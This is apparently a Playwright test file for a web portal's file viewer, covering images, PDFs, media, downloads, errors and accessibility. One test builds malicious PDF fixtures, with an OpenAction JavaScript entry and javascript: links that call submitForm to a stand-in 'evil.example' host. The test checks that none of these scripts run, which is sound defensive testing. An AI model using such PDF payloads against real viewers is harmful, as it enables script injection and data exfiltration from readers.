import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Locator, Page, Response } from '@playwright/test';
import { picture, samples } from '../../../packages/server/testing/files.ts';
import { accessibilityViolations } from './axe.ts';
import { publishFiles, type PageFile } from './file-pages.ts';
import { makePdf, PROTECTED } from './pdf-file.ts';
import { openBlankPage } from './builder.ts';
import { expect, test, withDatabase, type Stack } from './stack.ts';
import { openOtherBrowser } from './users.ts';

test.use({ portico: 'file-viewer', language: 'en', viewport: { width: 1440, height: 900 } });

const chapters = Array.from({ length: 12 }, (_, index) => ({ text: `Chapter ${index + 1} of the harbour` }));
const film = readFileSync(path.join(import.meta.dirname, 'fixtures/four-seconds.webm'));
/** A second of silence. */
const silence = Buffer.concat([
  Buffer.from('524946466c1f000057415645666d74201000000001000100401f0000401f00000100080064617461401f0000', 'hex'),
  Buffer.alloc(8000, 128),
]);

const FILES: PageFile[] = [
  { name: 'Annual report.pdf', content: makePdf(chapters) },
  { name: 'harbour.png', content: await picture(2400, 1200).png().toBuffer() },
  { name: 'tour.webm', content: film },
  { name: 'tour.avi', content: samples.avi },
  { name: 'speech.wav', content: silence },
  { name: 'figures.xlsx', content: samples.xlsx },
  { name: 'draft.pdf', content: makePdf([{ text: 'A draft' }]), isViewOnly: true },
  { name: 'protected.pdf', content: makePdf([{ text: 'A secret' }], { trailer: PROTECTED }) },
  { name: 'damaged.pdf', content: Buffer.from('%PDF-1.4\nnothing of a document') },
];

const viewer = (page: Page) => page.getByRole('dialog');
const link = (page: Page, name: string) => page.locator('.page-content').getByRole('link', { name, exact: true });
const button = (page: Page, name: string) => viewer(page).getByRole('button', { name, exact: true });

const loggedFiles = (stack: Stack) =>
  withDatabase(stack, async (sql) => {
    const rows = await sql<{ file: string }[]>`select details ->> 'file' as file from activities
      where action = 'file.accessed' order by at, id`;
    return rows.map(({ file }) => file);
  });

type SignIn = (page: Page, role: 'administrator' | 'member') => Promise<void>;

/** Opens a page with files, which is published first if nobody has. */
async function openFiles(page: Page, stack: Stack, signIn: SignIn) {
  await signIn(page, 'administrator');
  const [known] = await withDatabase(stack, (sql) => sql`select 1 from page_locales where slug = 'documents'`);
  if (!known) await publishFiles(page, stack, 'Documents', FILES);
  await page.goto(`${stack.urls.portal}/documents`);
  await expect(link(page, 'harbour.png')).toBeVisible();
}

async function open(page: Page, name: string): Promise<Locator> {
  await link(page, name).click();
  await expect(viewer(page).getByRole('heading', { name })).toBeVisible();
  return viewer(page);
}

test('a click opens the viewer for what the specification lists alone, and every click is recorded', async ({
  stack,
  page,
  signIn,
}) => {
  await openFiles(page, stack, signIn);
  const before = await loggedFiles(stack);
  await open(page, 'harbour.png');
  await page.keyboard.press('Escape');
  await expect(viewer(page)).toHaveCount(0);
  await expect(link(page, 'harbour.png')).toBeFocused();

  await test.step('what is not in the list is saved', async () => {
    const download = page.waitForEvent('download');
    await link(page, 'figures.xlsx').click();
    expect((await download).suggestedFilename()).toBe('figures.xlsx');
    await expect(viewer(page)).toHaveCount(0);
  });

  await test.step('a click that asks for a new tab is the browser’s', async () => {
    for (const click of [{ modifiers: ['Control' as const] }, { button: 'middle' as const }]) {
      const opened = Promise.race([page.context().waitForEvent('page'), page.waitForEvent('download')]);
      await link(page, 'harbour.png').click(click);
      await opened;
    }
    await expect(viewer(page)).toHaveCount(0);
  });

  await test.step('the keyboard clicks too', async () => {
    await link(page, 'harbour.png').press('Enter');
    await button(page, 'Close').click();
    await expect(viewer(page)).toHaveCount(0);
    await expect(link(page, 'harbour.png')).toBeFocused();
  });

  await expect
    .poll(async () => (await loggedFiles(stack)).slice(before.length).sort())
    .toEqual(['figures.xlsx', 'harbour.png', 'harbour.png', 'harbour.png', 'harbour.png']);
});

test('a name without an extension opens the viewer, which shows what the server says it is', async ({
  stack,
  page,
  signIn,
}) => {
  await openFiles(page, stack, signIn);
  const rename = (name: string, to: string) =>
    link(page, name).evaluate((element, download) => element.setAttribute('download', download), to);
  await rename('harbour.png', 'The harbour');
  await link(page, 'harbour.png').click();
  await expect(viewer(page).getByRole('img', { name: 'The harbour' })).toHaveJSProperty('naturalWidth', 2400);
  await page.keyboard.press('Escape');

  await rename('figures.xlsx', 'The figures');
  await link(page, 'figures.xlsx').click();
  await expect(viewer(page).getByRole('alert')).toContainText('The file cannot be shown here.');
  await expect(viewer(page).getByRole('link', { name: 'Download' })).toHaveCount(2);
});

test('the files of a page follow one another by buttons and arrow keys', async ({ stack, page, signIn }) => {
  await openFiles(page, stack, signIn);
  const dialog = await open(page, 'harbour.png');
  const heading = (name: string) => expect(dialog.getByRole('heading', { name })).toBeVisible();
  await expect(dialog.getByText('File 2 of 8')).toBeAttached();
  await button(page, 'Next file').click();
  await heading('tour.webm');
  await page.keyboard.press('ArrowRight');
  await heading('tour.avi');
  await expect(dialog.getByRole('alert')).toContainText('Your browser cannot play this type of file. Download it');
  await page.keyboard.press('ArrowLeft');
  await heading('tour.webm');
  await button(page, 'Previous file').click();
  await heading('harbour.png');

  await test.step('an image that is zoomed has the arrows for itself', async () => {
    const frame = dialog.getByRole('group', { name: /^harbour\.png/ });
    const image = dialog.getByRole('img', { name: 'harbour.png' });
    await expect(image).toHaveJSProperty('naturalWidth', 2400);
    const width = async () => (await image.boundingBox())!.width;
    await frame.focus();
    const fitted = await width();
    for (let step = 0; step < 4; step++) await page.keyboard.press('+');
    await expect.poll(width).toBeGreaterThan(fitted * 2);
    const left = async () => (await image.boundingBox())!.x;
    const before = await left();
    await page.keyboard.press('ArrowRight');
    await expect.poll(left).toBeCloseTo(before - 60, 0);
    await page.keyboard.press('0');
    await page.keyboard.press('ArrowRight');
    await heading('tour.webm');
  });
  await page.keyboard.press('Escape');
  await expect(link(page, 'harbour.png')).toBeFocused();
});

test('an image is zoomed, moved and turned by the mouse', async ({ stack, page, signIn }) => {
  await openFiles(page, stack, signIn);
  const dialog = await open(page, 'harbour.png');
  const image = dialog.getByRole('img', { name: 'harbour.png' });
  await expect(image).toHaveJSProperty('naturalWidth', 2400);
  const box = async () => (await image.boundingBox())!;
  const frame = (await dialog.getByRole('group', { name: /^harbour/ }).boundingBox())!;
  await expect.poll(async () => (await box()).width).toBeLessThanOrEqual(frame.width + 1);
  const fitted = await box();

  await page.mouse.move(frame.x + 300, frame.y + 300);
  await page.mouse.wheel(0, -400);
  await expect.poll(async () => (await box()).width).toBeCloseTo(fitted.width * Math.E, -1);
  const zoomed = await box();
  // The point under the pointer stays.
  expect((300 + frame.x - zoomed.x) / zoomed.width).toBeCloseTo((300 + frame.x - fitted.x) / fitted.width, 1);

  await page.mouse.down();
  await page.mouse.move(frame.x + 350, frame.y + 320, { steps: 4 });
  await page.mouse.up();
  await expect.poll(async () => (await box()).x).toBeCloseTo(zoomed.x + 50, 0);

  await button(page, 'Fit to window').click();
  await expect.poll(async () => (await box()).width).toBeCloseTo(fitted.width, 0);
  await button(page, 'Rotate').click();
  await expect.poll(async () => (await box()).height).toBeLessThanOrEqual(frame.height + 1);
  expect((await box()).height / (await box()).width).toBeCloseTo(2, 1);
});

test('a PDF has pages, zoom, search, text to select and thumbnails', async ({ stack, page, signIn }) => {
  await openFiles(page, stack, signIn);
  const dialog = await open(page, 'Annual report.pdf');
  const text = (page_: number) => dialog.getByLabel(`Page ${page_} of 12`).locator('.textLayer');
  await expect(text(1)).toContainText('Chapter 1 of the harbour');
  await expect(dialog.locator('.pdfViewer .page')).toHaveCount(12);
  // Drawn as they come into view.
  await expect(dialog.locator('.pdfViewer canvas')).not.toHaveCount(12);

  await test.step('the number of the page goes there', async () => {
    const field = dialog.getByLabel('Page', { exact: true });
    await field.fill('9');
    await field.press('Enter');
    await expect(text(9)).toContainText('Chapter 9');
    await expect(field).toHaveValue('9');
    await dialog.getByRole('region', { name: 'Pages' }).focus();
    await page.keyboard.press('Home');
    await expect(field).toHaveValue('1');
  });

  await test.step('the text can be selected', async () => {
    // The browser of the tests may have no fonts; then text has no width, and cannot be selected.
    await page.addStyleTag({ content: ".textLayer span { font-family: 'Inter Variable' !important }" });
    const selected = await text(1).evaluate((layer) => {
      getSelection()!.selectAllChildren(layer);
      return getSelection()!.toString();
    });
    expect(selected).toContain('Chapter 1 of the harbour');
  });

  await test.step('zoom by buttons and keys', async () => {
    const zoom = dialog.locator('output');
    const percent = async () => Number.parseInt((await zoom.textContent())!);
    const before = await percent();
    await button(page, 'Zoom in').click();
    await expect.poll(percent).toBeGreaterThan(before);
    const larger = await percent();
    await page.keyboard.press('-');
    await expect.poll(percent).toBeLessThan(larger);
    await button(page, 'Fit to width').click();
    const area = (await dialog.getByRole('region', { name: 'Pages' }).boundingBox())!;
    const sheet = async () => (await dialog.locator('.pdfViewer .page').first().boundingBox())!.width;
    await expect.poll(sheet).toBeGreaterThan(area.width - 60);
  });

  await test.step('search, by Ctrl+F, onwards and back', async () => {
    await page.keyboard.press('Control+f');
    const field = dialog.getByRole('searchbox', { name: 'Search the text' });
    await expect(field).toBeFocused();
    await field.fill('HARBOUR');
    await expect(dialog.getByText('1 of 12', { exact: true })).toBeVisible();
    await field.press('Enter');
    await expect(dialog.getByText('2 of 12', { exact: true })).toBeVisible();
    await expect(text(2).locator('.highlight.selected')).toHaveText('harbour');
    await button(page, 'Previous match').click();
    await button(page, 'Previous match').click();
    await expect(dialog.getByText('12 of 12', { exact: true })).toBeVisible();
    await expect(text(12).locator('.highlight.selected')).toHaveText('harbour');
    await field.fill('lighthouse');
    await expect(dialog.getByText('Not found')).toBeVisible();
    await field.press('Escape');
    await expect(field).toHaveValue('');
    await expect(dialog.locator('.highlight')).toHaveCount(0);
  });

  await test.step('thumbnails', async () => {
    await button(page, 'Thumbnails').click();
    const list = dialog.getByRole('navigation', { name: 'Thumbnails' });
    await expect(list.getByRole('button')).toHaveCount(12);
    await list.getByRole('button', { name: 'Page 11 of 12' }).click();
    await expect(text(11)).toContainText('Chapter 11');
    await expect(list.getByRole('button', { name: 'Page 11 of 12' })).toHaveAttribute('aria-current', 'page');
  });
});

test('a PDF that is damaged or protected says so', async ({ stack, page, signIn }) => {
  await openFiles(page, stack, signIn);
  const dialog = await open(page, 'damaged.pdf');
  await expect(dialog.getByRole('alert')).toHaveText(/^The file is damaged and cannot be shown\. Download it/);
  await button(page, 'Previous file').click();
  await expect(dialog.getByRole('alert')).toHaveText(/^The PDF file is protected by a password/);
});

test('videos and sounds are played, by keyboard too', async ({ stack, page, signIn }) => {
  await openFiles(page, stack, signIn);
  const dialog = await open(page, 'tour.webm');
  const player = dialog.getByRole('region', { name: 'tour.webm' });
  const video = dialog.locator('video');
  await expect.poll(() => video.evaluate((each: HTMLVideoElement) => Math.round(each.duration))).toBe(4);
  await player.getByRole('button', { name: 'play', exact: true }).focus();
  await page.keyboard.press('k');
  await expect.poll(() => video.evaluate((each: HTMLVideoElement) => each.currentTime)).toBeGreaterThan(0);
  await page.keyboard.press('k');
  await expect(video).toHaveJSProperty('paused', true);
  await page.keyboard.press('m');
  await expect(video).toHaveJSProperty('muted', true);
  await button(page, 'Next file').click();
  await button(page, 'Next file').click();
  await expect(dialog.getByRole('region', { name: 'speech.wav' })).toBeVisible();
  await expect.poll(() => dialog.locator('audio').evaluate((each: HTMLAudioElement) => each.duration)).toBe(1);
});

test('a file is only offered for download where its page allows it', async ({ stack, page, signIn }) => {
  await openFiles(page, stack, signIn);
  const dialog = await open(page, 'draft.pdf');
  await expect(dialog.locator('.textLayer')).toContainText('A draft');
  await expect(dialog.getByRole('link', { name: 'Download' })).toHaveCount(0);
  await page.keyboard.press('Escape');
  await open(page, 'Annual report.pdf');
  const download = page.waitForEvent('download');
  await dialog.getByRole('link', { name: 'Download' }).click();
  expect(readFileSync(await (await download).path())).toEqual(FILES[0]!.content);
});

test('a file that is gone, and a network that is, say what to do', async ({ stack, page, signIn }) => {
  await openFiles(page, stack, signIn);
  const notThere = '**/files/*/harbour.png';
  await page.route(notThere, (route) => route.fulfill({ status: 404, body: '' }));
  const dialog = await open(page, 'harbour.png');
  await expect(dialog.getByRole('alert')).toHaveText(
    /The file is no longer here, or you no longer have access to it\./,
  );
  await page.keyboard.press('Escape');

  await page.unroute(notThere);
  await page.route(notThere, (route) => route.abort());
  await open(page, 'harbour.png');
  await expect(dialog.getByRole('alert')).toHaveText(/^The file could not be loaded\. Check your connection/);
  await page.unroute(notThere);
  await dialog.getByRole('button', { name: 'Try again' }).click();
  await expect(dialog.getByRole('img', { name: 'harbour.png' })).toHaveJSProperty('naturalWidth', 2400);
});

test('nothing of the viewer comes before the first click, and nothing of pdf.js for an image', async ({
  stack,
  page,
  signIn,
}) => {
  await openFiles(page, stack, signIn);
  const scripts: Promise<string>[] = [];
  const onResponse = (response: Response) => {
    if (response.request().resourceType() === 'script') scripts.push(response.text());
  };
  page.on('response', onResponse);
  await page.reload();
  await expect(link(page, 'harbour.png')).toBeVisible();
  const has = async (word: string) => (await Promise.all(scripts)).some((script) => script.includes(word));
  // A word of each that its code has to hold.
  const markers = ['data-keeps-arrows', 'media-controller', 'PasswordException'];
  expect(await Promise.all(markers.map(has))).toEqual([false, false, false]);
  const dialog = await open(page, 'harbour.png');
  await expect(dialog.getByRole('img', { name: 'harbour.png' })).toBeVisible();
  expect(await Promise.all(markers.map(has))).toEqual([true, false, false]);
  await page.keyboard.press('Escape');
  await open(page, 'Annual report.pdf');
  await expect(dialog.locator('.textLayer').first()).toContainText('Chapter 1');
  expect(await Promise.all(markers.map(has))).toEqual([true, false, true]);
});

/** What a document did: what it ran, asked for, opened. Requests are only looked at: routing those of a worker ends this browser. */
async function observe(reader: Page, stack: Stack): Promise<string[]> {
  const seen: string[] = [];
  const { origin } = new URL(stack.urls.portal);
  reader.context().on('request', (request) => {
    if (!request.url().startsWith(`${origin}/`)) seen.push(`asked for ${request.url()}`);
  });
  reader.on('dialog', (dialog) => {
    seen.push(`opened a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  reader.on('popup', (popup) => seen.push(`opened ${popup.url()}`));
  await reader.exposeFunction('attack', (number: unknown) => void seen.push(`ran ${String(number)}`));
  return seen;
}

test('no PDF runs a script, and its links lead out in a tab of their own', async ({ stack, page, signIn, browser }) => {
  const attack = "app.alert(1); attack(1); this.submitForm('https://evil.example/')";
  const names = ['open.pdf', 'link.pdf', 'url.pdf', 'safe.pdf'];
  const contents = [
    makePdf([{ text: 'Opened' }], { catalog: `/OpenAction<</S/JavaScript/JS(${attack.replace(/[()]/g, '\\$&')})>>` }),
    makePdf([{ text: 'Script', link: `javascript:${attack}` }]),
    makePdf([{ text: 'Address', link: 'JaVaScRiPt:attack(2)' }]),
    makePdf([{ text: 'Safe', link: 'https://safe.example/plan' }]),
  ];
  await signIn(page, 'administrator');
  await publishFiles(
    page,
    stack,
    'Attacks',
    names.map((name, index) => ({ name, content: contents[index]! })),
  );
  const reader = await openOtherBrowser(browser, stack, { viewport: { width: 1440, height: 900 } });
  await signIn(reader, 'member');
  await openBlankPage(reader);
  const seen = await observe(reader, stack);
  await reader.goto(`${stack.urls.portal}/attacks`);
  for (const [index, word] of ['Opened', 'Script', 'Address'].entries()) {
    await link(reader, names[index]!).click();
    const layer = viewer(reader).locator('.textLayer');
    await expect(layer, seen.join('\n')).toContainText(word);
    await layer.click({ position: { x: 150, y: 110 }, force: true });
    expect(await viewer(reader).locator('.annotationLayer a[href]').count()).toBe(0);
    await reader.keyboard.press('Escape');
    await expect(viewer(reader)).toHaveCount(0);
  }
  expect(seen).toEqual([]);
  await link(reader, 'safe.pdf').click();
  const out = viewer(reader).locator('.annotationLayer a');
  await expect(out).toHaveAttribute('href', 'https://safe.example/plan');
  await expect(out).toHaveAttribute('target', '_blank');
  await expect(out).toHaveAttribute('rel', /noopener noreferrer/);
});

test('the viewer has no accessibility violations at two widths', async ({ stack, page, signIn }) => {
  await openFiles(page, stack, signIn);
  for (const width of [1440, 390]) {
    await page.setViewportSize({ width, height: 844 });
    const dialog = await open(page, 'Annual report.pdf');
    await expect(dialog.locator('.textLayer').first()).toContainText('Chapter 1');
    await button(page, 'Thumbnails').click();
    expect(await accessibilityViolations(page)).toEqual([]);
    for (const name of ['harbour.png', 'tour.webm', 'tour.avi']) {
      await button(page, 'Next file').click();
      await expect(dialog.getByRole('heading', { name })).toBeVisible();
      await expect(dialog.getByText('Loading…')).toHaveCount(0);
      expect(await accessibilityViolations(page), name).toEqual([]);
    }
    const box = (await dialog.boundingBox())!;
    if (width === 390) expect(box).toMatchObject({ x: 0, y: 0, width: 390, height: 844 });
    await page.keyboard.press('Escape');
    await expect(viewer(page)).toHaveCount(0);
  }
});
